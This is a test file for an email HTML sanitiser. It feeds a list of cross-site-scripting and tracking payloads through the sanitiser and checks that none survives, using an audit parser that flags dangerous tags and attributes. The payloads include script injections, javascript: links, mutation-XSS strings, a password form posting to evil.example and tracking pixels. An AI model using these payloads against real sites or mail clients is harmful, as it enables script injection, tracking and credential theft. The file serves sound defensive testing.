"""Customers' HTML is shown without anything that runs, fetches, submits or covers."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vasta.channels.email import has_remote_images, sanitise

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    '<img srcset="https://evil.example/x.png 2x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="cid:x">x</a>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<form action="https://evil.example"><input name=password><button>ok</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example)}</style>",
    '<div style="background-image:url(https://evil.example/x)">x</div>',
    '<div style="background:u\\72l(https://evil.example/x)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
    '<div style="list-style:url(https://evil.example/x)">x</div>',
    '<td background="https://evil.example/x.png">x</td>',
    '<body background="https://evil.example/x" onload="alert(1)">x</body>',
    '<video src="https://evil.example/x" poster="https://evil.example/y"></video>',
    '<audio src="https://evil.example/x" autoplay></audio>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="//evil.example/x.png">',
    '<img src="https://evil.example/pixel.gif" width=1 height=1>',
    '<img src=" https://evil.example/pixel.gif">',
    '<div id="location" name="cookie" class="x">x</div>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href='https://x.example' ping='https://evil.example'>x</a>",
    "<a href='https://x.example' target='_top' rel='opener'>x</a>",
    "<p onclick=alert(1) onmouseover=alert(1) style='color:red'>x</p>",
    "<custom-element onfoo=x>x</custom-element>",
    "<plaintext><script>alert(1)</script>",
    "<b <script>alert(1)</script>0",
    "<marquee onstart=alert(1)>x</marquee>",
]
ALLOWED_LINK = re.compile(r"(https?|mailto|tel):")


class Audit(HTMLParser):
    """Collects whatever in a result could run, fetch, submit or cover."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "base",
            "meta",
            "link",
            "svg",
        }:
            self.faults.append(tag)
        for name, value in attrs:
            self.judge(tag, name, value or "")

    def judge(self, tag: str, name: str, value: str) -> None:
        bad_link = name == "href" and not ALLOWED_LINK.match(value)
        bad_style = name == "style" and re.search(r"url|expression|position|z-index|@|\\", value)
        if name.startswith("on") or name in {"id", "name", "class", "srcset", "background", "ping", "action"}:
            self.faults.append(f"{tag} {name}")
        elif name == "src" or bad_link or bad_style:
            self.faults.append(f"{tag} {name}={value}")


@pytest.mark.parametrize("vector", VECTORS)
def test_an_attack_comes_out_harmless(vector: str) -> None:
    assert Audit(sanitise(f"<p>before</p>{vector}<p>after</p>")).faults == []


@given(st.lists(st.sampled_from([*VECTORS, "<p>", "</p>", "<table>", "<td>", "<!--", "-->", "'", '"', "<", ">"])))
def test_attacks_mixed_come_out_harmless(parts: list[str]) -> None:
    assert Audit(sanitise("".join(parts))).faults == []


def test_a_letter_keeps_its_look() -> None:
    html = '<table width="600"><tr><td style="color:red;padding:4px">Hei <b>Maija</b></td></tr></table>'

    seen = sanitise(html)

    assert 'style="color:red;padding:4px"' in seen
    assert "Hei <b>Maija</b>" in seen


def test_links_open_elsewhere_and_tell_nothing() -> None:
    seen = sanitise('<a href="https://example.fi/a?b=1&amp;c=2" onclick="x()">linkki</a>')

    assert seen == '<a href="https://example.fi/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">linkki</a>'


def test_remote_pictures_come_only_when_asked() -> None:
    html = '<img src="https://example.fi/logo.png" alt="Logo">'

    assert sanitise(html) == '<img alt="Logo">'
    assert sanitise(html, remote_images=True) == html


@pytest.mark.parametrize(
    ("html", "remote"),
    [
        ('<img src="https://example.fi/x.png">', True),
        ('<img src="cid:x">', False),
        ('<img src="data:image/png;base64,AAAA">', False),
        ("<p>https://example.fi/x.png</p>", False),
    ],
)
def test_remote_pictures_are_noticed(html: str, remote: bool) -> None:
    assert has_remote_images(html) is remote


def test_pictures_in_the_mail_are_shown_from_where_we_keep_them() -> None:
    seen = sanitise('<img src="cid:kuva1@x"><img src="cid:unknown">', cid_url={"kuva1@x": "https://d/1"}.get)

    assert seen == '<img src="https://d/1"><img>'


def test_pictures_written_into_the_mail_stay() -> None:
    html = '<img src="data:image/png;base64,AAAA">'

    assert sanitise(html) == html


def test_html_nested_beyond_reason_comes_as_its_text_in_a_moment() -> None:
    began = time.perf_counter()

    assert sanitise("<div>" * 200_000 + "Moi") == "<pre>Moi</pre>"
    assert sanitise("<b>" * 200_000 + "<i>Moi") == "<pre>Moi</pre>"
    assert time.perf_counter() - began < 3
